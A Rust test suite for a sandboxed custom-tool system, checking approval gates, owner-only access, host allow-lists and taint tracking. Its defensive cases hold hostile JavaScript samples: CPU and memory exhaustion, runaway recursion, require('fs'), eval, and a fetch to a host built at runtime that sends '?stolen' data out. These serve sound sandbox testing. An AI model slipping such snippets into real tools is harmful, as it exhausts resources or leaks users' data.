//! Custom tools with the real store, sandbox and dispatch.

use super::*;
use tool::{Channel, Id, Ports, Principal, Role, SystemClock, UserId, Via};

fn house() -> (CustomTools, Cx) {
    let store = Store::in_memory().unwrap();
    build(&store, Registry::new().unwrap(), json!({}))
}

/// A fixture with these services; tools may reach two hosts that do not answer.
fn build(store: &Store, registry: Registry, services: Value) -> (CustomTools, Cx) {
    let services = serde_json::from_value(services).unwrap();
    let config = ConfigCenter::open(store, services, Default::default()).unwrap();
    let sandbox = Sandbox::new(Duration::from_secs(60), 256 << 20);
    let web = Guarded::new(vec!["127.0.0.11:1".into(), "127.0.0.12:1".into()]);
    let tools = CustomTools::new(store, registry.clone(), sandbox, web, config.clone());
    registry.add(family(tools.clone())).unwrap();
    let mut ports = Ports::unconnected(Arc::new(SystemClock::new(None).unwrap()));
    ports.ask = Arc::new(registry.clone());
    ports.dispatch = Arc::new(registry);
    ports.settings = Arc::new(config);
    (tools, Cx::root(ports, Principal::owner(), Via::direct(Channel::Api)))
}

fn draft(name: &str, code: &str) -> Draft {
    Draft {
        name: name.into(),
        description: "For a test".into(),
        parameters: json!({"type": "object", "properties": {"n": {"type": "number"}}}),
        code: code.into(),
        ..Draft::default()
    }
}

/// The same caller in an untainted run.
fn anew(cx: &Cx) -> Cx {
    Cx::root(cx.ports().clone(), cx.principal().clone(), cx.via().clone())
}

/// A run that needs no approvals; they are tested in the registry.
fn model(cx: &Cx) -> Cx {
    let bounds = tool::Bounds { by_word: true, ..tool::Bounds::default() };
    cx.in_run(Id::new(), Id::new(), Default::default()).bounded(bounds)
}

#[tokio::test]
async fn made_called_changed_and_deleted() {
    let (tools, cx) = house();
    let made = tools.create(&cx, draft("double_it", "return args.n * 2"), Created::User).await.unwrap();
    assert!(made.id.starts_with("tool_") && made.id.len() == 21, "{}", made.id);
    assert_eq!(cx.call("double_it", json!({"n": 21})).await.unwrap().content, json!(42));
    assert!(cx.call("double_it", json!({"n": "x"})).await.unwrap_err().message().contains("do not fit"));
    let taken = tools.create(&cx, draft("double_it", "return 1"), Created::User).await;
    assert!(taken.unwrap_err().message().contains("already a tool"));
    let core = tools.create(&cx, draft("search_tools", "return 1"), Created::User).await;
    assert!(core.is_err());

    let patch = Patch { code: Some("return args.n * 3".into()), name: Some("triple_it".into()), ..Patch::default() };
    let changed = tools.update(&cx, &made.id, patch).await.unwrap();
    assert_eq!((changed.version, changed.name.as_str()), (2, "triple_it"));
    assert_eq!(cx.call("triple_it", json!({"n": 2})).await.unwrap().content, json!(6));
    assert!(cx.call("double_it", json!({"n": 2})).await.is_err());

    tools.set_status(&cx, &made.id, Change::Disable).await.unwrap();
    assert!(cx.call("triple_it", json!({})).await.is_err());
    tools.set_status(&cx, &made.id, Change::Enable).await.unwrap();
    assert_eq!(tools.stats(&cx).unwrap().active, 1);
    tools.delete(&cx, &made.id).await.unwrap();
    assert!(tools.get(&cx, &made.id).is_err() && cx.call("triple_it", json!({})).await.is_err());
}

#[tokio::test]
async fn hostile_code_ends_with_a_sentence_and_the_next_call_works() {
    let (tools, cx) = house();
    let rows = [
        ("for(;;){}", "CPU"),
        ("const a=[]; for(;;) a.push(new ArrayBuffer(1<<20))", "memory"),
        ("const f=n=>f(n+1)+1; return f(0)", "recurs"),
        ("throw new Error('no such thing')", "no such thing"),
        ("return ((;", "SyntaxError"),
    ];
    for (code, part) in rows {
        let error = tools.test(&cx, draft("bad", code), json!({})).await.unwrap_err();
        let text = error.message().to_lowercase();
        assert!(text.contains(&part.to_lowercase()), "{code}: {text}");
        let fine = tools.test(&cx, draft("good", "return 1 + 1"), json!({})).await.unwrap();
        assert_eq!(fine.content, json!(2));
    }
}

#[tokio::test]
async fn what_a_model_makes() {
    let (tools, cx) = house();
    let made = model(&cx)
        .call(
            "create_tool",
            json!({"name": "greet", "description": "Greet", "parameters": "{\"type\":\"object\",\"properties\":{}}",
                   "code": "return 'hello ' + context.toolName"}),
        )
        .await
        .unwrap();
    assert_eq!((&made.content["version"], &made.content["status"]), (&json!(1), &json!("active")));
    assert_eq!(cx.call("greet", json!({})).await.unwrap().content, json!("hello greet"));
    let stranger = Principal { user: UserId(Id::new()), ..Principal::owner() };
    let stranger = Cx::root(cx.ports().clone(), stranger, cx.via().clone());
    assert!(stranger.call("greet", json!({})).await.is_err(), "only for whom it was made");
    let machine = Cx::root(cx.ports().clone(), cx.principal().clone(), Via::direct(Channel::Machine));
    assert!(machine.call("greet", json!({})).await.is_err(), "and from their door");

    let args = json!({"name": "risky", "description": "d", "parameter_schema": {"type": "object"}, "code": "return 1",
                      "permissions": ["shell"]});
    let risky = model(&cx).call("create_tool", args).await.unwrap();
    assert_eq!(risky.content["status"], "pending_approval");
    let id = risky.content["id"].as_str().unwrap();
    assert!(cx.call("risky", json!({})).await.is_err());
    assert!(tools.set_status(&cx, id, Change::Enable).await.is_err(), "enabling is no way around approval");
    tools.set_status(&cx, id, Change::Approve).await.unwrap();
    assert_eq!(cx.call("risky", json!({})).await.unwrap().content, json!(1));

    tools.create(&cx, draft("mine", "return 1"), Created::User).await.unwrap();
    let delete = |name: &str, confirm| json!({"name": name, "confirm": confirm});
    assert!(matches!(model(&cx).call("delete_custom_tool", delete("mine", true)).await, Err(Error::Denied(_))));
    let asked = model(&cx).call("delete_custom_tool", delete("greet", false)).await.unwrap();
    assert_eq!(asked.content["deleted"], false);
    assert!(model(&cx).call("delete_custom_tool", delete("greet", true)).await.is_ok());
}

#[tokio::test]
async fn one_tool_under_two_names_is_one_tool() {
    let (tools, cx) = house();
    tools.create(&cx, draft("one", "return 1"), Created::User).await.unwrap();
    let named = || json!({"name": "one"});
    let off = cx.call("disable_tool", named()).await.unwrap().content;
    assert_eq!((&off["name"], &off["enabled"]), (&json!("one"), &json!(false)));
    let listed = |args| {
        let cx = cx.clone();
        async move { cx.call("list_tools", args).await.unwrap().content["tools"].as_array().unwrap().len() }
    };
    assert_eq!((listed(json!({})).await, listed(json!({"include_disabled": true})).await), (0, 1));
    assert_eq!(cx.call("enable_tool", named()).await.unwrap().content["enabled"], true);
    assert_eq!(listed(Value::Null).await, 1);
    assert_eq!(cx.call("delete_tool", named()).await.unwrap().content["deleted"], false, "needs confirm");
    assert_eq!(cx.call("delete_tool", json!({"name": "one", "confirm": true})).await.unwrap().content["deleted"], true);
}

#[tokio::test]
async fn drafts_that_cannot_be_kept() {
    let (tools, cx) = house();
    let with = |change: fn(&mut Draft)| {
        let mut d = draft("fine", "return 1");
        change(&mut d);
        d
    };
    let rows = [
        (with(|d| d.name = "Bad Name".into()), "lower-case"),
        (with(|d| d.description = " ".into()), "`description` is empty"),
        (with(|d| d.code = "".into()), "`code` is empty"),
        (with(|d| d.code = "x".repeat(60_000)), "50000"),
        (with(|d| d.parameters = json!({"type": "string"})), "type object"),
        (with(|d| d.parameters = json!("{")), "not valid JSON"),
        (with(|d| d.parameters = json!({"type": "object", "properties": {"a": {"type": "no"}}})), "schema"),
        (with(|d| d.code = "return require('fs')".into()), "require"),
        (with(|d| d.code = "return ((".into()), "cannot be parsed: SyntaxError"),
    ];
    for (draft, part) in rows {
        let error = tools.create(&cx, draft, Created::User).await.unwrap_err();
        assert!(error.message().contains(part), "{part}: {error}");
    }
    assert!(tools.list(&cx).unwrap().is_empty());
}

#[tokio::test]
async fn what_tools_reach() {
    let (tools, cx) = house();
    let run = |code: &str, network: bool| {
        let permissions = if network { vec![Permission::Network] } else { vec![] };
        let draft = Draft { permissions, ..draft("reach", code) };
        let (tools, cx) = (tools.clone(), cx.clone());
        async move { tools.test(&cx, draft, json!({})).await }
    };
    assert_eq!(run("return typeof fetch", false).await.unwrap().content, json!("undefined"));
    let found = run("return (await utils.callTool('search_tools', {query: 'create'})).count", false).await.unwrap();
    assert_eq!((found.content, found.label), (json!(1), Label::Own));
    // A custom tool cannot create or delete tools, directly or through the facade.
    let create = "{name: 'own_child', description: 'd', parameters: {type: 'object'}, code: 'return 1'}";
    for code in [
        format!("await utils.callTool('create_tool', {create})"),
        format!("await utils.callTool('use_tool', {{tool_name: 'create_tool', arguments: {create}}})"),
        "await utils.callTool('use_tool', {tool_name: 'delete_custom_tool', arguments: {name: 'x', confirm: true}})"
            .into(),
        "await utils.callTool('toggle_custom_tool', {name: 'x', enabled: true})".into(),
    ] {
        let refused = run(&code, false).await.unwrap_err();
        assert!(refused.message().contains("a person's approval"), "{code}: {refused}");
    }
    assert_eq!(cx.label(), Label::Own);
    let blocked = run("await fetch('http://127.0.0.1:1/')", true).await.unwrap_err();
    assert!(blocked.message().contains("127.0.0.1"), "{blocked}");
    assert_eq!(cx.label(), Label::Outside, "who reaches out is tainted");
    // A tainted run reaches only hosts that the code itself names.
    let composed = run("await fetch('http://' + ['example', 'org'].join('.') + '/?stolen')", true).await.unwrap_err();
    assert!(composed.message().contains("no host that the code of `reach` names"), "{composed}");
}

#[tokio::test]
async fn what_others_may_see_and_change() {
    let (tools, cx) = house();
    let member = |_: ()| {
        let principal = Principal { user: UserId(Id::new()), role: Role::Member, ..Principal::owner() };
        Cx::root(cx.ports().clone(), principal, cx.via().clone())
    };
    let (anna, ben) = (member(()), member(()));
    let hers = tools.create(&anna, draft("hers", "return 1"), Created::User).await.unwrap();
    let made = tools.create(&anna, draft("made", "return 1"), Created::Llm).await.unwrap();
    let names = |cx: &Cx| tools.list(cx).unwrap().into_iter().map(|t| t.name).collect::<Vec<_>>();
    assert_eq!((names(&ben), names(&anna).len(), names(&cx).len()), (vec!["hers".to_owned()], 2, 2));
    assert!(tools.get(&ben, &made.id).is_err() && tools.get(&ben, &hers.id).is_ok());

    let patch = || Patch { code: Some("return 'owned'".into()), ..Patch::default() };
    assert!(matches!(tools.update(&ben, &hers.id, patch()).await, Err(Error::Denied(_))));
    assert!(matches!(tools.set_status(&ben, &hers.id, Change::Disable).await, Err(Error::Denied(_))));
    assert!(matches!(tools.delete(&ben, &hers.id).await, Err(Error::Denied(_))));
    assert!(tools.update(&cx, &hers.id, patch()).await.is_ok(), "an admin may");

    // New permissions for a model's tool wait for an admin, whoever grants them.
    let shell = || Patch { permissions: Some(vec![Permission::Shell]), ..Patch::default() };
    assert_eq!(tools.update(&anna, &made.id, shell()).await.unwrap().status, Status::PendingApproval);
    assert!(anna.call("made", json!({})).await.is_err());
}

#[tokio::test]
async fn the_services_a_tool_needs_come_and_go_with_it() {
    let (tools, cx) = house();
    let asks = |list: Value| Draft { required_api_keys: list, ..draft("asks", "return utils.getApiKey('weather')") };
    let needed = || tools.config.service("weather").map(|s| s.needed_by);
    for bad in [json!("weather"), json!([{"name": "Weather API"}]), json!([{"title": "weather"}])] {
        assert!(matches!(tools.create(&cx, asks(bad), Created::User).await, Err(Error::BadArgs(_))));
    }
    let made = tools.create(&cx, asks(json!([{"name": "weather"}])), Created::User).await.unwrap();
    assert_eq!(needed(), Some(vec!["asks".to_owned()]));
    let taken = tools.create(&cx, asks(json!([{"name": "other"}])), Created::User).await;
    assert!(taken.is_err() && tools.config.service("other").is_none());
    assert_eq!(cx.call("asks", json!({})).await.unwrap().content, Value::Null, "nobody set it up");

    let rename = Patch { name: Some("asks_more".into()), ..Patch::default() };
    tools.update(&cx, &made.id, rename).await.unwrap();
    assert_eq!(needed(), Some(vec!["asks_more".to_owned()]));
    tools.set_status(&cx, &made.id, Change::Disable).await.unwrap();
    assert!(needed().is_some());
    let other = Patch { required_api_keys: Some(json!([{"name": "other"}])), ..Patch::default() };
    tools.update(&cx, &made.id, other).await.unwrap();
    assert!(needed().is_none() && tools.config.service("other").is_some());

    // Registered again at each start.
    tools.config.unregister(&made.id);
    tools.load().unwrap();
    assert!(tools.config.service("other").is_some());
    tools.delete(&cx, &made.id).await.unwrap();
    assert!(tools.config.services().is_empty());
}

/// Nothing answers there, so this error proves that the request was permitted.
const REACHED: &str = "cannot be reached";

#[tokio::test]
async fn a_service_s_host_is_reached_unasked_by_who_declares_or_names_it() {
    let store = Store::in_memory().unwrap();
    let services = json!({"bank": {"base_url": "http://127.0.0.11:1"}, "mail": {"base_url": "http://127.0.0.12:1"}});
    let (tools, cx) = build(&store, Registry::new().unwrap(), services);
    let (free, named) = ("await fetch(args.url)", "await fetch('http://127.0.0.11:1/x')");
    let (strange, new) = ("no host that the code of", "a person must approve each host");
    let (none, bank, mail) = (Value::Null, json!([{"name": "bank"}]), json!([{"name": "mail"}]));
    let rows = [
        (Created::User, false, free, &none, REACHED),
        (Created::User, true, free, &none, strange),
        (Created::User, true, free, &mail, strange),
        (Created::User, true, free, &bank, REACHED),
        (Created::User, true, named, &none, REACHED),
        (Created::Llm, false, free, &none, REACHED),
        (Created::Llm, true, free, &none, strange),
        (Created::Llm, true, free, &mail, strange),
        (Created::Llm, true, free, &bank, REACHED),
        (Created::Llm, true, named, &none, REACHED),
        (Created::Llm, false, "await fetch('http://127.0.0.12:1/')", &none, REACHED),
    ];
    for (at, (by, tainted, code, needs, told)) in rows.into_iter().enumerate() {
        let draft = Draft {
            parameters: json!({"type": "object", "properties": {"url": {"type": "string"}}}),
            permissions: vec![Permission::Network],
            required_api_keys: needs.clone(),
            ..draft(&format!("reach_{at}"), code)
        };
        let made = tools.create(&anew(&cx), draft, by).await.unwrap();
        let cx = anew(&cx);
        if tainted {
            cx.taint(Label::Outside);
        }
        let error = cx.call(&made.name, json!({"url": "http://127.0.0.11:1/x"})).await.unwrap_err();
        assert!(error.message().contains(told), "{at}: {error}");
    }
    // Without a service, every host of a model's tool needs approval.
    let (tools, cx) = build(&Store::in_memory().unwrap(), Registry::new().unwrap(), json!({}));
    let draft = Draft { permissions: vec![Permission::Network], ..draft("reach", named) };
    tools.create(&cx, draft, Created::Llm).await.unwrap();
    let error = cx.call("reach", json!({})).await.unwrap_err();
    assert!(error.message().contains(new), "{error}");
}

#[tokio::test]
async fn a_user_s_hosts_bind_what_tools_fetch_for_them() {
    let store = Store::in_memory().unwrap();
    let registry = Registry::open(&store, Default::default(), Default::default()).unwrap();
    let services = json!({"mail": {"base_url": "http://127.0.0.12:1"}});
    let (tools, cx) = build(&store, registry.clone(), services);
    let fetch = |cx: Cx, host: &'static str| {
        let code = format!("await fetch('http://{host}:1/')");
        let draft = Draft { permissions: vec![Permission::Network], ..draft("reach", &code) };
        let tools = tools.clone();
        async move { tools.test(&cx, draft, json!({})).await.unwrap_err().message().to_owned() }
    };
    let mine = json!({"users": {cx.user().to_string(): {"allowedHosts": ["127.0.0.11"]}}});
    let mine: registry::Policy = serde_json::from_value(mine).unwrap();
    registry.change_policy(&cx, |policy| *policy = mine).await.unwrap();
    let off = "on no host this user may reach";
    // Neither the code nor a service lifts the host list.
    for (host, told) in [("127.0.0.11", REACHED), ("127.0.0.12", off), ("127.0.0.11", REACHED)] {
        let error = fetch(anew(&cx), host).await;
        assert!(error.contains(told), "{host}: {error}");
    }
    let other = Principal { user: UserId(Id::new()), ..Principal::owner() };
    let other = Cx::root(cx.ports().clone(), other, cx.via().clone());
    assert!(fetch(other, "127.0.0.12").await.contains(REACHED), "others have no list");
}

#[tokio::test]
async fn who_is_shown_a_stranger_s_description_is_tainted() {
    let (tools, cx) = house();
    tools.create(&cx, draft("plain_one", "return 1"), Created::User).await.unwrap();
    let tainted = anew(&cx);
    tainted.taint(Label::Outside);
    let strange = Draft { category: Some("Strange".into()), ..draft("strange_one", "return 1") };
    let strange = tools.create(&tainted, strange, Created::User).await.unwrap();
    tools.create(&cx, draft("lists", "return utils.listTools().length"), Created::User).await.unwrap();
    let rows = [
        ("search_tools", json!({"query": "strange"}), Label::Outside),
        ("search_tools", json!({"query": "all"}), Label::Outside),
        ("search_tools", json!({"query": "plain_one"}), Label::Own),
        ("get_tool_help", json!({"tool_name": "strange_one"}), Label::Outside),
        ("get_tool_help", json!({"tool_name": "plain_one"}), Label::Own),
        ("list_custom_tools", json!({}), Label::Outside),
        ("list_custom_tools", json!({"category": "Strange"}), Label::Outside),
        ("list_custom_tools", json!({"category": "Other"}), Label::Own),
        ("list_custom_tools", json!({"status": "disabled"}), Label::Own),
        ("use_tool", json!({"tool_name": "strange_one", "arguments": {"n": "x"}}), Label::Outside),
        ("use_tool", json!({"tool_name": "plain_one", "arguments": {"n": "x"}}), Label::Own),
        ("lists", json!({}), Label::Outside),
    ];
    let check = async |rows: &[(&str, Value, Label)]| {
        for (tool, args, label) in rows {
            let cx = anew(&cx);
            // Invalid arguments are a valid outcome too.
            let _ = cx.call(tool, args.clone()).await;
            assert_eq!(cx.label(), *label, "{tool} {args}");
        }
    };
    check(&rows).await;
    tools.delete(&cx, &strange.id).await.unwrap();
    check(&[("search_tools", json!({"query": "all"}), Label::Own), ("lists", json!({}), Label::Own)]).await;
}

#[tokio::test]
async fn code_that_was_stored_unchecked_is_checked_before_it_runs() {
    let (tools, cx) = house();
    let mut stored = checked(draft("restored", "return 1"), Created::User).unwrap();
    stored.code = "return eval('1 + 1')".into();
    let stamp = Stamp { owner: cx.user(), ..Stamp::household("create_tool") };
    tools.tools.records.insert_as(stamp, stored).await.unwrap();
    tools.load().unwrap();
    let error = cx.call("restored", json!({})).await.unwrap_err();
    assert!(error.message().contains("`restored` is not run") && error.message().contains("eval("), "{error}");
}

#[test]
fn the_stored_form_is_that_of_one_list_of_fields() {
    #[derive(serde::Serialize)]
    struct Flat<'a> {
        handle: [u8; 8],
        texts: [&'a str; 4],
        category: Option<&'a str>,
        permissions: &'a [u8],
        status: u8,
        requires_approval: bool,
        created_by: u8,
        version: u32,
        usage_count: u32,
        last_used_ms: u64,
        metadata: &'a str,
        required_api_keys: &'a str,
    }
    let draft = Draft { category: Some("Test".into()), permissions: vec![Permission::Shell], ..draft("x", "return 1") };
    let mut stored = checked(draft, Created::Llm).unwrap();
    (stored.life.version, stored.life.usage_count, stored.life.last_used_ms) = (3, 700, 1 << 40);
    let registry::authored::Head { handle, name, description, parameters } = &stored.head;
    let flat = Flat {
        handle: *handle,
        texts: [name, description, parameters, &stored.code],
        category: Some("Test"),
        permissions: &[3],
        status: 2,
        requires_approval: true,
        created_by: 1,
        version: 3,
        usage_count: 700,
        last_used_ms: 1 << 40,
        metadata: "",
        required_api_keys: "",
    };
    assert_eq!(postcard::to_stdvec(&stored).unwrap(), postcard::to_stdvec(&flat).unwrap());
}
